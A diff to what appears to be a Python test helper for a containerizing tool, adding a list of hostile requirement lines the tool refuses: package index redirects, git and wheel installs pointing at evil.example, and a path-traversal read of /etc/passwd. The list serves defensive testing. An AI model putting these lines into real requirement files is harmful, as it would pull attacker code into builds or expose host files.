@@ -131,3 +131,17 @@ def edit_manifest(bundle: Path, change: Callable[[dict[str, Any]], Any]) -> None
     )  # a hostile manifest leaves out the compiled form, so the original loads
     change(raw)
     path.write_text(yaml.safe_dump(raw, sort_keys=False))
+
+
+# Requirement lines that are no package specifier: each changes where the image's packages come from, or reads
+# a file of the host. `ferry containerize` refuses them unless the operator passes --allow-requirement-options.
+HOSTILE_REQUIREMENTS = [
+    "--index-url http://evil.example/simple",
+    "--extra-index-url http://evil.example/simple",
+    "-i http://evil.example/simple",
+    "-e git+https://evil.example/payload.git#egg=payload",
+    "https://evil.example/payload-1.0-py3-none-any.whl",
+    "payload @ https://evil.example/payload-1.0-py3-none-any.whl",
+    "-r ../../../../../etc/passwd",
+    "./payload",
+]
